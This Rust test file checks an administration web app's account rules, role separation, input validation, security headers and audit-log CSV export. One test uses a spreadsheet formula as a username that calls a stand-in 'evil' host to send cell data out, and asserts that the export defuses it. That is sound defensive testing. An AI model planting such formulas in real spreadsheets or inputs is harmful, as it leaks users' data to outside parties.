        .scalar("SELECT id FROM users WHERE username = 'sysadmin'")
        .await;
    let r = app
        .json(
            Method::POST,
            &format!("/api/v1/users/{sysadmin}/password"),
            &sec,
            json!({"password": "Temp-Reset-2026"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert!(r.body.contains("jiceng account password"), "{}", r.body);
    let before = app.login("sysadmin").await;
    let temporary = jiceng::auth::reset_password_by_operator(app.db(), "sysadmin")
        .await
        .unwrap();
    assert_eq!(
        app.get("/api/v1/me", &before).await.status,
        StatusCode::UNAUTHORIZED
    );
    let r = app.try_login("sysadmin", &temporary).await.unwrap_err();
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    app.try_renew("sysadmin", &temporary, "Sys-Own-Choice-2026")
        .await
        .expect("the owner sets their own");
    let reset = app.audited("user.password_reset", Some("sysadmin")).await;
    assert_eq!(reset.total, 1);
    assert_eq!(reset.rows[0].actor, "系统:命令行");
    // A successor administrator is set up the same way, and chooses their own password.
    let temporary = jiceng::auth::create_account_by_operator(
        app.db(),
        "auditor2",
        "新任审计员",
        None,
        &[jiceng::auth::Role::AuditAdmin],
    )
    .await
    .unwrap();
    let r = app.try_login("auditor2", &temporary).await.unwrap_err();
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    let auditor2 = app
        .try_renew("auditor2", &temporary, "Audit-Own-Choice-2026")
        .await
        .unwrap();
    assert_eq!(app.get("/audit", &auditor2).await.status, StatusCode::OK);
}

async fn accounts_follow_the_three_duty_separation(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let sec = app.login("secadmin").await;
    let district = app.org_id("510117000000").await;
    let township = app.org_id("510117006000").await;
    let two_duties = json!({"username": "zhangsan", "display_name": "张三", "org_id": district,
        "roles": ["system_admin", "audit_admin"], "password": "Abcdefgh1!x"});
    let r = app
        .json(Method::POST, "/api/v1/users", &sec, two_duties)
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(r.body.contains("三员分立"));
    let weak = json!({"username": "zhangsan", "display_name": "张三", "org_id": township,
        "roles": ["township_officer"], "password": "abcdefghij"});
    let r = app.json(Method::POST, "/api/v1/users", &sec, weak).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(r.json()["error"]["field"], "password");
    let ok = json!({"username": "zhangsan", "display_name": "张三", "org_id": township,
        "roles": ["township_officer", "dispatcher"], "password": "Abcdefgh1!x"});
    let r = app
        .json(Method::POST, "/api/v1/users", &sec, ok.clone())
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let id = r.json()["id"].as_i64().unwrap();
    let r = app.json(Method::POST, "/api/v1/users", &sec, ok).await;
    assert_eq!(r.status, StatusCode::CONFLICT);
    // The password the administrator chose opens no session: the owner sets their own first,
    // and the account page says so until then.
    let page = app.get(&format!("/users/{id}"), &sec).await;
    assert!(page.body.contains("待本人设置密码"), "{}", page.body);
    let r = app.try_login("zhangsan", "Abcdefgh1!x").await.unwrap_err();
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert_eq!(r.json()["error"]["field"], "new_password", "{}", r.body);
    let z = app
        .try_renew("zhangsan", "Abcdefgh1!x", "Zhang-Own-2026")
        .await
        .expect("new account signs in with its own password");
    let page = app.get(&format!("/users/{id}"), &sec).await;
    assert!(!page.body.contains("待本人设置密码"), "{}", page.body);
    // Disabling ends its sessions.
    let r = app
        .send(
            Method::POST,
            &format!("/api/v1/users/{id}/disable"),
            &sec,
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    assert_eq!(
        app.get("/api/v1/me", &z).await.status,
        StatusCode::UNAUTHORIZED
    );
    let r = app
        .try_login("zhangsan", "Zhang-Own-2026")
        .await
        .unwrap_err();
    assert!(r.body.contains("停用"), "{}", r.body);
    // Disabling it again changes nothing, and says so: no second audit row claims it did.
    let r = app
        .send(
            Method::POST,
            &format!("/api/v1/users/{id}/disable"),
            &sec,
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.body);
    assert!(r.body.contains("已停用"), "{}", r.body);
    let disabled = app.audited("user.disable", Some("zhangsan")).await;
    assert_eq!(disabled.total, 1);
    // A role change is recorded with the roles before and after.
    let r = app
        .json(
            Method::PUT,
            &format!("/api/v1/users/{id}"),
            &sec,
            json!({"display_name": "张三", "org_id": township, "roles": ["window_clerk"]}),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let updated = app.audited("user.update", Some("zhangsan")).await;
    assert!(
        updated.rows[0].detail.contains("镇（街道）工作人员")
            && updated.rows[0].detail.contains("→ 窗口受理员"),
        "{}",
        updated.rows[0].detail
    );
    // The security administrator cannot change their own roles.
    let me = app.get("/api/v1/me", &sec).await.json();
    let my_id = me["user_id"].as_i64().unwrap();
    let r = app
        .json(
            Method::PUT,
            &format!("/api/v1/users/{my_id}"),
            &sec,
            json!({"display_name": "陈思远", "org_id": district, "roles": ["system_admin"]}),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    // Nor leave one of the three duties without an active account: the only audit
    // administrator made a security one, the only system administrator disabled.
    let user_id = |name: &'static str| {
        let app = &app;
        async move {
            app.scalar::<i64>(&format!("SELECT id FROM users WHERE username = '{name}'"))
                .await
        }
    };
    let auditor = user_id("auditadmin").await;
    let r = app
        .json(
            Method::PUT,
            &format!("/api/v1/users/{auditor}"),
            &sec,
            json!({"display_name": "审计员", "org_id": district, "roles": ["security_admin"]}),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert!(r.body.contains("三员"), "{}", r.body);
    // Nor make a second audit administrator, whose password they would know.
    let r = app
        .json(
            Method::POST,
            "/api/v1/users",
            &sec,
            json!({"username": "shadow", "display_name": "影子", "org_id": district,
                   "roles": ["audit_admin"], "password": "Audit-Copy-2026x"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    let sysadmin = user_id("sysadmin").await;
    let r = app
        .send(
            Method::POST,
            &format!("/api/v1/users/{sysadmin}/disable"),
            &sec,
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.body);
    assert!(app.try_login("sysadmin", common::PASSWORD).await.is_ok());
    // A reset skips the old password: not for one's own.
    let r = app
        .json(
            Method::POST,
            &format!("/api/v1/users/{my_id}/password"),
            &sec,
            json!({"password": "Qa@Test2026xyz"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
}

async fn bad_input_gets_a_clear_4xx_and_writes_nothing(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let admin = app.login("sysadmin").await;
    let before = audit::search(app.db(), &audit::AuditFilter::default())
        .await
        .unwrap()
        .total;
    let district = app.org_id("510117000000").await;
    // Malformed JSON, a missing field, a malformed division code, an unknown parent.
    let r = app
        .send(
            Method::POST,
            "/api/v1/orgs",
            &admin,
            Some(("application/json", "{not json".into())),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("JSON")
    );
    let r = app
        .json(
            Method::POST,
            "/api/v1/orgs",
            &admin,
            json!({"kind": "township", "name": "x"}),
        )
        .await;
    assert!(r.status.is_client_error(), "{}", r.status);
    let r = app
        .json(Method::POST, "/api/v1/orgs", &admin,
            json!({"kind": "township", "subkind": "town", "code": "51011715000", "name": "x", "parent_id": district}))
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let r = app
        .json(Method::POST, "/api/v1/orgs", &admin,
            json!({"kind": "township", "subkind": "town", "code": "510117150000", "name": "x", "parent_id": 999999}))
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(r.json()["error"]["field"], "parent_id");
    // A too-large body.
    let big = format!("{{\"name\": \"{}\"}}", "字".repeat(1_000_000));
    let r = app
        .send(
            Method::PATCH,
            &format!("/api/v1/orgs/{district}"),
            &admin,
            Some(("application/json", big)),
        )
        .await;
    assert_eq!(r.status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("过大")
    );
    // Unknown things are 404s with a reason, pages and API alike.
    assert_eq!(
        app.get("/api/v1/orgs/999999", &admin).await.status,
        StatusCode::NOT_FOUND
    );
    let r = app.get("/api/v1/nothing-here", &admin).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    assert_eq!(r.json()["error"]["code"], "not_found");
    let r = app.get("/orgs/999999", &admin).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    assert!(r.body.contains("组织不存在"));
    // An address whose number is not one names nothing: 404 with a reason, in the API's JSON
    // or as a page.
    let r = app.get("/orgs/abc", &admin).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    assert!(r.body.contains("编号无效"), "{}", r.body);
    // The error page keeps the signed-in user's menu, as a handler's own errors do.
    assert!(
        r.body.contains("主菜单") && !r.body.contains(r#"<a href="/login">登录</a>"#),
        "{}",
        r.body
    );
    let r = app.get("/api/v1/orgs/abc", &admin).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("编号无效")
    );
    // A query value that cannot be read names its parameter; an empty one (a filter form's
    // "all") is no filter at all.
    let r = app.get("/api/v1/orgs?page=-1", &admin).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(r.json()["error"]["field"], "page");
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("查询参数 page")
    );
    let r = app.get("/orgs?page=abc", &admin).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.body.contains("查询参数 page"), "{}", r.body);
    assert!(r.body.contains("主菜单"), "{}", r.body);
    // A page past the last says so, instead of an empty list as "page 1 of 1".
    let r = app.get("/orgs?kind=township&page=999", &admin).await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.body.contains("页码超出范围"), "{}", r.body);
    let all = app.get("/api/v1/orgs", &admin).await.json()["total"].clone();
    let r = app.get("/api/v1/orgs?kind=&page=&q=", &admin).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.json()["total"], all);
    // A form with errors comes back with the message and the values typed.
    let r = app
        .form(
            "/orgs",
            &admin,
            &[
                ("kind", "township"),
                ("subkind", "town"),
                ("code", "123"),
                ("name", "新镇名"),
                ("parent_id", &district.to_string()),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.body.contains("12 位数字") && r.body.contains("新镇名"),
        "{}",
        r.body
    );
    let after = audit::search(app.db(), &audit::AuditFilter::default())
        .await
        .unwrap()
        .total;
    assert_eq!(before, after, "no change, so no audit row");
}

async fn readiness_reports_the_database(t: TestDb) {
    let app = TestApp::new(t).await;
    let r = app.get("/readyz", &Session::default()).await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(
        r.headers.get("x-request-id").is_some(),
        "every response carries a request id"
    );
    // Pages are kept by no cache, framed by no site; the style sheet may be cached.
    let page = app.get("/login", &Session::default()).await;
    assert_eq!(page.headers[header::CACHE_CONTROL], "no-store");
    let csp = page.headers[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap();
    assert!(
        csp.contains("frame-ancestors 'none'") && csp.contains("base-uri 'none'"),
        "{csp}"
    );
    let css = app.get("/static/app.css", &Session::default()).await;
    assert_ne!(css.headers[header::CACHE_CONTROL], "no-store");
    // A method a path does not take is answered in the API's shape.
    let r = app
        .send(
            Method::DELETE,
            "/api/v1/cases/categories",
            &Session::default(),
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::METHOD_NOT_ALLOWED, "{}", r.body);
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("DELETE")
    );
    app.db().close().await;
    let r = app.get("/readyz", &Session::default()).await;
    assert_eq!(r.status, StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(
        app.get("/healthz", &Session::default()).await.status,
        StatusCode::OK
    );
}

async fn the_audit_admin_exports_csv(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let _ = app.try_login("xipu_officer", "bad-Password-1").await;
    // Anyone can put a formula in the trail, as a username tried at the login.
    let _ = app
        .try_login("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "x")
        .await;
    // Or a megabyte: the trail keeps the first 64 characters of a name no account has.
    let _ = app.try_login(&"a".repeat(100_000), "x").await;
    assert_eq!(
        app.count(
            "SELECT CAST(MAX(LENGTH(actor) + LENGTH(target)) AS BIGINT) FROM audit_log
             WHERE target LIKE 'aaaaaaaa%'"
        )
        .await,
        130
    );
    let auditor = app.login("auditadmin").await;
    let r = app
        .get("/audit/export.csv?action=login_failed", &auditor)
        .await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.body.starts_with('\u{feff}'), "BOM for Excel");
    assert!(r.body.contains("登录失败") && r.body.contains("xipu_officer"));
    let cells = r.body.to_lowercase();
    assert!(cells.contains(",\"'=hyperlink("), "{}", r.body);
    assert!(!cells.contains(",\"=hyperlink("), "{}", r.body);
    // A lone "-" (no address, no request id) is text, not a formula to guard.
    assert!(!cells.contains(",'-,"), "{}", r.body);
    assert!(!r.body.contains("载入演示数据"), "filtered by action");
    let page = app.get("/audit?actor=xipu_officer", &auditor).await;
    assert!(page.body.contains("登录失败"));
    let r = app
        .get("/audit?actor=xipu_officer&from=2026-99-01", &auditor)
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    // On the search form, with the other filters as they were.
    assert!(
        r.body.contains("格式应为 YYYY-MM-DD") && r.body.contains(r#"value="xipu_officer""#),
        "{}",
        r.body
    );
}
